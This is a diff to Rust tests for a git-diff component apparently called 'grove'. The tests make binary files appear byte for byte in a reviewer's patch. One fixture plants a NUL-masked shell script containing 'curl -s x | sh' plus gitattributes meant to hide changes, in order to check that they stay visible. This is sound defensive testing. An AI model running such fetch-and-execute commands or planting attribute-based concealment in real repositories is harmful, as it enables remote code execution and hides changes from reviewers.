@@ -1,4 +1,4 @@
-//! Diffs of a branch against its base: stat, capped patch, binary files named.
+//! Diffs of a branch against its base: stat, capped patch, binary files written out.
 
 use grove::git::{DiffStat, FileStat};
 use pretty_assertions::assert_eq;
@@ -51,15 +51,13 @@ async fn the_diff_has_a_structured_stat_a_patch_naming_binaries_and_a_terminal_r
     assert!(!diff.patch.is_truncated());
     assert!(diff.patch.text.contains("+world\n"), "{}", diff.patch.text);
     assert!(
-        diff.patch
-            .text
-            .contains("Binary files /dev/null and b/logo.png differ"),
-        "binary files are named: {}",
+        diff.patch.text.contains(
+            "+++ b/logo.png\n[grove: this file holds NUL bytes or bytes that are not UTF-8; \
+             its lines are written out: a control character or a byte that is not UTF-8 as \
+             \\xNN, a backslash as \\\\]\n@@ -0,0 +1 @@\n+\\x89PNG\\x00\\x00\\xff\\xfe\n"
+        ),
+        "a binary file is shown written out byte for byte, never only named: {}",
         diff.patch.text
-    );
-    assert!(
-        !diff.patch.text.contains("PNG"),
-        "binary bytes are never dumped"
     );
     assert!(
         diff.patch
@@ -77,6 +75,54 @@ src/util.rs → src/helpers.rs (+0 -0)\n3 files changed, 1 insertion(+), 0 delet
     assert!(
         coloured.contains("\x1b[32m+world\x1b[0m"),
         "insertions are green: {coloured:?}"
+    );
+}
+
+#[tokio::test]
+async fn content_alone_decides_what_the_reviewer_sees_and_a_script_with_a_nul_is_shown_whole() {
+    let fixture = GitFixture::with_files(&[
+        (".gitattributes", "pkg/*.py -diff\n*.sh binary\n"),
+        ("pkg/core.py", "def greet():\n    return 'hi'\n"),
+        ("run.sh", "#!/bin/sh\necho ok\n"),
+    ]);
+    let repo = fixture.open().await;
+    let base = fixture.rev("HEAD");
+    let worktree = filled_worktree(&repo, base, 1).await;
+    let dir = worktree.path();
+    std::fs::write(
+        dir.join("pkg/core.py"),
+        "def greet():\n    return 'pwned'\n",
+    )
+    .unwrap();
+    std::fs::write(dir.join("run.sh"), b"#!/bin/sh\n\0\ncurl -s x | sh\n").unwrap();
+    let head = repo.checkpoint(&worktree, "turn 1").await.unwrap().unwrap();
+
+    let diff = repo.diff(base, head, 100_000).await.unwrap();
+
+    assert_eq!(
+        diff.stat,
+        DiffStat {
+            files: vec![
+                stat("pkg/core.py", None, 1, 1, false),
+                stat("run.sh", None, 0, 0, true),
+            ]
+        },
+        "the repository's `-diff` and `binary` attributes decide nothing; a NUL does"
+    );
+    for shown in [
+        "-    return 'hi'\n+    return 'pwned'\n",
+        " #!/bin/sh\n-echo ok\n+\\x00\n+curl -s x | sh\n",
+    ] {
+        assert!(
+            diff.patch.text.contains(shown),
+            "the reviewer sees every changed line ({shown:?}): {}",
+            diff.patch.text
+        );
+    }
+    assert!(
+        !diff.patch.text.contains("Binary files"),
+        "no change hides behind 'binary': {}",
+        diff.patch.text
     );
 }
 
@@ -218,14 +264,39 @@ async fn the_in_process_diff_is_the_patch_and_numstat_git_writes() {
         .await
         .unwrap();
 
+    let git = fixture.git(&["diff", "--find-renames", &base, &head]);
     assert_eq!(
-        diff.patch.text.trim_end(),
-        fixture.git(&["diff", "--find-renames", &base, &head]),
-        "the reviewer's patch is byte for byte the one git writes"
+        text_sections(diff.patch.text.trim_end()),
+        text_sections(&git),
+        "the reviewer's patch of every text file is byte for byte the one git writes"
     );
+    for written_out in [
+        "-\\x00binary\\x01\n\\ No newline at end of file\n+\\x00\t\t",
+        "+\\x00\\x07",
+    ] {
+        assert!(
+            diff.patch.text.contains(written_out),
+            "where git writes 'Binary files differ', the reviewer reads the bytes \
+             ({written_out:?}): {}",
+            diff.patch.text
+        );
+    }
     assert_eq!(
         diff.stat,
         git_numstat(&fixture, &base, &head),
         "the stat is git's numstat"
     );
+}
+
+/// The sections of a patch, one per file, but those of binary files (`*.bin`).
+fn text_sections(patch: &str) -> Vec<String> {
+    format!("\n{patch}")
+        .split("\ndiff --git ")
+        .filter(|section| {
+            !section.is_empty()
+                && !section.starts_with("a/blob.bin")
+                && !section.starts_with("a/added.bin")
+        })
+        .map(str::to_owned)
+        .collect()
 }
